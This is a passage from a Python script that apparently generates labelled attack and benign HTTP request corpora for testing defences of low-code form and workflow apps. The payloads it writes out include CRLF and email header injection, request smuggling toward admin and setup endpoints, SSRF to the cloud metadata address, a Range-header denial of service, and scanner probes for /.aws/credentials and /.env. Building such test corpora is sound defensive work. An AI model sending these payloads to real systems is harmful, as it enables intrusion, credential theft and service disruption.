            g.add("ldapi-user-picker", "ldapi", "GET", "/api/directory/users?" + qsv([("q", p), ("limit", "20")]) if "%00" not in p
                  else "/api/directory/users?q=" + qv(p[:-3]) + "%00&limit=20", g.xhr(TOOLS))
        else:
            g.add("ldapi-sso-login", "ldapi", "POST", "/api/auth/ldap",
                  g.browser(TOOLS, accept=ACCEPT_JSON, ctype="application/x-www-form-urlencoded", cookie=False),
                  g.form([("username", p), ("password", "anything")]))


def atk_crlf(g):
    g.add("crlf-redirect", "crlf", "GET", f"/f/contact-us/thanks?redirect=%2Fthanks%0D%0ASet-Cookie%3A%20lc_session%3Dattacker-fixed",
          g.browser(FORMS, cookie=False))
    g.add("crlf-redirect", "crlf", "GET", "/f/event-rsvp/thanks?redirect=%0d%0aLocation:%20http://attacker.example.com/phish",
          g.browser(FORMS, cookie=False))
    g.add("crlf-redirect", "crlf", "GET", "/login?next=/app%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E",
          g.browser(TOOLS, cookie=False))
    g.add("crlf-export-filename", "crlf", "GET",
          "/api/v1/files/download?id=att_" + g.alnum(10) + "&name=report.csv%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3Epwn",
          g.browser(FORMS, accept="*/*"))
    g.add("crlf-unicode", "crlf", "GET", "/f/contact-us/thanks?redirect=%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
          g.browser(FORMS, cookie=False))
    # email header injection through the public contact form
    for field, p in [("email", "victim@example.com\r\nBcc: list1@example.net, list2@example.org"),
                     ("name", "Anna\nCc: everyone@example.com\nSubject: Invoice overdue"),
                     ("email", "x@example.com\nBcc:spam@example.net"),
                     ("subject", "Hello\r\nContent-Type: text/html\r\n\r\n<a href=http://evil.example.net>verify</a>")]:
        g.add("crlf-mail-header", "crlf", "POST", "/f/contact-us/submit",
              g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
              g.form([("name", "Anna") if field != "name" else (field, p), (field, p) if field != "name" else ("email", "a@example.com"), ("message", "hi")]))
    g.add("crlf-header-json", "crlf", "POST", f"/api/v1/forms/frm_{g.alnum(10)}/webhooks",
          g.xhr(FORMS, ctype="application/json"),
          g.js({"url": "https://crm.example.org/in", "headers": {"X-Source": "forms\r\nHost: 169.254.169.254\r\n\r\nGET /latest/meta-data/ HTTP/1.1"}}))


def atk_protocol(g):
    smuggle = [
        ("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x", [["Transfer-Encoding", "chunked"]]),
        ("0\r\n\r\nPOST /rest/owner/setup HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 10\r\n\r\nx=", [["Transfer-Encoding", " chunked"]]),
        ("5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n", [["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]]),
        ("0\r\n\r\nGET /api/v1/tokens HTTP/1.1\r\nX: x", [["Transfer-Encoding", "xchunked"]]),
        ("0\r\n\r\n", [["Transfer-Encoding", "chunked, identity"], ["Transfer-Encoding", "chunked"]]),
    ]
    for body, extra in smuggle:
        h = [["Host", g.pick([FORMS, FLOW, TOOLS])], ["User-Agent", g.pick(BROWSERS)], ["Accept", "*/*"],
             ["Content-Type", "application/x-www-form-urlencoded"]] + extra
        g.add("smuggling", "protocol", "POST", "/", h, body)
    g.add("range-dos", "protocol", "GET", "/attachments/att_" + g.alnum(10) + "/resume.pdf",
          [["Host", FORMS], ["User-Agent", "Mozilla/5.0"], ["Accept", "*/*"],
           ["Range", "bytes=0-," + ",".join(f"5-{i}" for i in range(1, 120))], ["Request-Range", "bytes=0-,5-0,5-1,5-2,5-3"]])
    g.add("proxy-absolute-uri", "ssrf", "GET", "http://169.254.169.254/latest/meta-data/",
          [["Host", FORMS], ["User-Agent", "curl/8.5.0"], ["Accept", "*/*"]])
    g.add("duplicate-host", "protocol", "GET", "/rest/credentials",
          [["Host", FLOW], ["Host", "127.0.0.1:5678"], ["User-Agent", "curl/8.5.0"], ["Accept", "*/*"]])
    g.add("cl-te-get", "protocol", "GET", "/api/v1/forms",
          [["Host", FORMS], ["User-Agent", g.pick(BROWSERS)], ["Accept", "*/*"], ["Transfer-Encoding", "chunked"]],
          "0\r\n\r\nGET /internal/admin HTTP/1.1\r\nHost: localhost\r\n\r\n")
    g.add("header-obfuscation", "protocol", "POST", "/webhook/" + g.hexs(8),
          [["Host", FLOW], ["User-Agent", "curl/8.5.0"], ["Content-Type", "application/json"], ["Transfer-Encoding", "chunked "], ["Transfer-encoding", "identity"]],
          "0\r\n\r\nDELETE /rest/workflows/1 HTTP/1.1\r\nHost: localhost\r\n\r\n")


def atk_scanner(g):
    probes = [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "GET", "/api/v1/forms?" + qsv([("page", "1 AND 8931=8931"), ("per_page", "25")])),
        ("sqlmap/1.8#stable (https://sqlmap.org)", "GET", "/v0/appQ2kd8/tblR9s?" + qsv([("pageSize", "50) AND 5172=CAST((CHR(113)||CHR(122)||CHR(118)) AS NUMERIC) AND (3331=3331")])),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "GET", "/cgi-bin/test-cgi"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007156)", "GET", "/admin/config.php"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "GET", "/.env"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "GET", "/rest/settings"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.5112.79 Safari/537.36", "GET", "/.git/config"),
        ("Fuzz Faster U Fool v2.1.0-dev", "GET", "/backup.sql"),
        ("gobuster/3.6", "GET", "/.aws/credentials"),
        ("feroxbuster/2.10.1", "GET", "/actuator/env"),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "GET", "/wp-content/plugins/contact-form-7/readme.txt"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "GET", "/"),
        ("Mozilla/5.0 zgrab/0.x", "GET", "/"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "GET", "/nmaplowercheck1715000000"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "GET", "/acunetix-wvs-test-for-some-inexistent-file"),
        ("dirbuster", "GET", "/phpinfo.php"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.93 Safari/537.36", "GET", "/server-status"),
        ("python-requests/2.31.0", "GET", "/wp-config.php.bak"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "GET", "/config/database.yml"),
        ("Mozilla/5.0 (compatible; Nuclei)", "POST", "/rest/owner/setup"),
    ]
    for ua, m, uri in probes:
        h = [["Host", g.pick([FORMS, SHEETS, TABLES, FLOW, TOOLS])], ["User-Agent", ua], ["Accept", "*/*"]]
        body = None
        if "acunetix" in uri:
            h.append(["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"])
        if m == "POST":
            h.append(["Content-Type", "application/json"])
            body = g.js({"email": "admin@example.com", "firstName": "x", "lastName": "x", "password": "Passw0rd!"})
        g.add("scanner", "scanner", m, uri, h, body)
    g.add("scanner", "scanner", "GET", "/",
          [["Host", FORMS], ["User-Agent", "Mozilla/5.0"], ["Accept", "*/*"], ["X-Scanner", "Netsparker"],
           ["Cookie", "netsparker=1"]])


# ===========================================================================

BENIGN = [benign_public_forms, benign_builders, benign_misc, benign_dev]
ATTACKS = [atk_sqli, atk_formula, atk_xss, atk_ssti, atk_ssrf, atk_lfi, atk_rfi, atk_rce,
           atk_nosqli, atk_proto, atk_xxe, atk_java, atk_php, atk_ldapi, atk_crlf,
           atk_protocol, atk_scanner]


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write(__doc__)
        sys.stderr.write("\nusage: corpus-lowcode.py attacks|benign\n")
        return 2
    g = Gen(argv[1])
    for fn in (ATTACKS if argv[1] == "attacks" else BENIGN):
        fn(g)
    out = sys.stdout
    for row in g.rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
